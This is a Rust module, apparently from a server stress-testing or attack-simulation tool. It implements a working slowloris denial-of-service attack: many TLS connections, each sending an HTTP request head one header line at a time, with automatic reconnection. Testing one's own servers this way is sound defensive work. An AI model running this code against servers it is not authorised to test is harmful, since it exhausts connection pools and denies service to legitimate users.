//! `slowloris`: many TLS connections, each sending a request head that never ends (one more
//! header line every `slow_interval`), reconnecting whenever the server cuts one. A server
//! with a bounded pool of connections and no header deadline runs out of room for anyone else.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::AsyncWriteExt;

use super::hold::RETRY_PAUSE;
use super::{AttackCounters, AttackCtx, Scenario};
use crate::client;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "slowloris",
    kind: "dos",
    description: "many connections sending a request head one header line at a time, forever",
    attack: |ctx, counters| Box::pin(attack(ctx, counters)),
};

async fn attack(ctx: AttackCtx, counters: Arc<AttackCounters>) {
    let mut workers = Vec::with_capacity(ctx.preset.connections);
    for i in 0..ctx.preset.connections {
        let (ctx, counters) = (ctx.clone(), counters.clone());
        workers.push(tokio::spawn(async move {
            let src = ctx.sources.pick(i);
            // Everything below stops at `until`: the connection is dropped with the task.
            let _ = tokio::time::timeout_at(ctx.until, worker(&ctx, src, &counters)).await;
        }));
    }
    for w in workers {
        let _ = w.await;
    }
    // Connections still open at the end were dropped with their tasks.
    counters.open.store(0, Ordering::Relaxed);
}

async fn worker(ctx: &AttackCtx, src: std::net::IpAddr, counters: &AttackCounters) {
    let mut line = 0u64;
    loop {
        counters.connects.fetch_add(1, Ordering::Relaxed);
        let mut tls = match ctx.client.tls_from(src).await {
            Ok(t) => t,
            Err(_) => {
                counters.refused.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(RETRY_PAUSE).await;
                continue;
            }
        };
        let head = format!(
            "GET / HTTP/1.1\r\nHost: {}\r\nUser-Agent: attack-sim slowloris\r\n",
            ctx.client.host()
        );
        if tls.write_all(head.as_bytes()).await.is_err() {
            counters.refused.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        counters.opened();
        loop {
            tokio::time::sleep(ctx.preset.slow_interval).await;
            line += 1;
            let more = format!("X-Slow-{line}: {line}\r\n");
            let sent = tls.write_all(more.as_bytes()).await.is_ok() && tls.flush().await.is_ok();
            if !sent || client::answered_or_closed(&mut tls).await {
                counters.cut.fetch_add(1, Ordering::Relaxed);
                break;
            }
        }
        counters.closed();
    }
}
